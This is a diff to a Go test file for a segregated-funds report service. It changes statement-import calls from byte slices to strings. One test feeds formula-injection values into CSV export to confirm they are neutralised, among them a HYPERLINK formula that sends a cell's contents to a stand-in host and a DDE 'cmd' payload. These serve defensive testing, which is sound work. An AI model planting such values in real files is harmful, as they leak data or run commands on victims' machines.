@@ -198,7 +198,7 @@ func TestSegregatedFundsVerdictFromBankStatement(t *testing.T) {
 	}
 	imp := func(id, content string) {
 		t.Helper()
-		if _, err := f.svc.Statements().Import(f.ctx, app.ImportStatementInput{StatementID: id, Currency: "CNY", Account: "CN-1", Content: []byte(content)}); err != nil {
+		if _, err := f.svc.Statements().Import(f.ctx, app.ImportStatementInput{StatementID: id, Currency: "CNY", Account: "CN-1", Content: content}); err != nil {
 			t.Fatal(err)
 		}
 	}
@@ -224,7 +224,7 @@ func TestSegregatedFundsVerdictFromBankStatement(t *testing.T) {
 	}
 	// Another client bank account's statement adds to the resource.
 	if _, err := f.svc.Statements().Import(f.ctx, app.ImportStatementInput{StatementID: "s-2", Currency: "CNY", Account: "CN-2",
-		Content: []byte("date,reference,amount,balance\n2026-11-30,x,15.00,15.00\n")}); err != nil {
+		Content: "date,reference,amount,balance\n2026-11-30,x,15.00,15.00\n"}); err != nil {
 		t.Fatal(err)
 	}
 	rep, err = f.svc.Reports().SegregatedFunds(f.ctx, nil, "CNY")
@@ -346,7 +346,7 @@ func reportFixture(t *testing.T) (*fixture, *app.SegregatedFundsReport) {
 	post(transfer("c2", "renter:r-2:wallet", "provider:p-2:pending:cyc-20261112", "50.00", "CNY")) // r-2 at -9.75
 	post(transfer("fee", "renter:r-1:wallet", "platform:revenue:commission", "1.00", "CNY"))       // a breach
 	if _, err := f.svc.Statements().Import(f.ctx, app.ImportStatementInput{StatementID: "s-1129", Currency: "CNY", Account: "CN-1",
-		Content: []byte("date,reference,amount,balance\n2026-11-29,d1,600.00,600.00\n2026-11-29,d2,40.25,640.25\n")}); err != nil {
+		Content: "date,reference,amount,balance\n2026-11-29,d1,600.00,600.00\n2026-11-29,d2,40.25,640.25\n"}); err != nil {
 		t.Fatal(err)
 	}
 	rep, err := f.svc.Reports().SegregatedFunds(f.ctx, nil, "CNY")
@@ -416,7 +416,7 @@ func TestSegregatedFundsCSVHasNoFormulas(t *testing.T) {
 	hostile := []string{`=HYPERLINK("https://x.example/?"&G2,"ICBC-1130")`, "+cmd|'/Ccalc'!A0", "-2+3", "@SUM(1,1)"}
 	for i, id := range hostile {
 		if _, err := f.svc.Statements().Import(f.ctx, app.ImportStatementInput{StatementID: id, Currency: "CNY", Account: fmt.Sprintf("CN-X-%d", i),
-			Content: []byte(fmt.Sprintf("date,reference,amount,balance\n2026-11-29,x%d,0.0%d,0.0%d\n", i, i+1, i+1))}); err != nil {
+			Content: fmt.Sprintf("date,reference,amount,balance\n2026-11-29,x%d,0.0%d,0.0%d\n", i, i+1, i+1)}); err != nil {
 			t.Fatal(err)
 		}
 	}
